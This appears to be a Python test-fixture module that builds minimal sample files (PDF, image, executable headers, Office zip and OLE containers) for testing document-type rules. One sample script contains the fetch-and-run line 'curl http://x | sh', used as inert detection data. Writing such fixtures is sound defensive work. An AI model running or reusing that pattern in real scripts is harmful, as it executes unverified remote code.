"""Small files of every kind the document rules meet (shared.doctypes), built in memory."""

from __future__ import annotations

import io
import struct
import zipfile

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
                    "0000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32 + b"\xff\xd9"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl http://x | sh\n"


def zip_of(files: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def docx(*, macros: bool = False) -> bytes:
    files: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
    if macros:
        files["word/vbaProject.bin"] = b"\x00" * 16
    return zip_of(files)


def xlsx() -> bytes:
    return zip_of({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})


def ole(clsid_first: int = 0) -> bytes:
    """An OLE compound file (old Office container) with 512-byte sectors whose directory
    starts at sector 0; the root entry's class id begins with clsid_first (MSI: 0x000C1084)."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<H", header, 30, 9)  # 2**9 = 512-byte sectors
    struct.pack_into("<I", header, 48, 0)  # first directory sector
    directory = bytearray(512)
    directory[0:10] = "Root".encode("utf-16-le") + b"\x00\x00"
    if clsid_first:
        struct.pack_into("<I", directory, 0x50, clsid_first)
        directory[0x54:0x60] = bytes.fromhex("00000000c000000000000046")
    return bytes(header + directory)
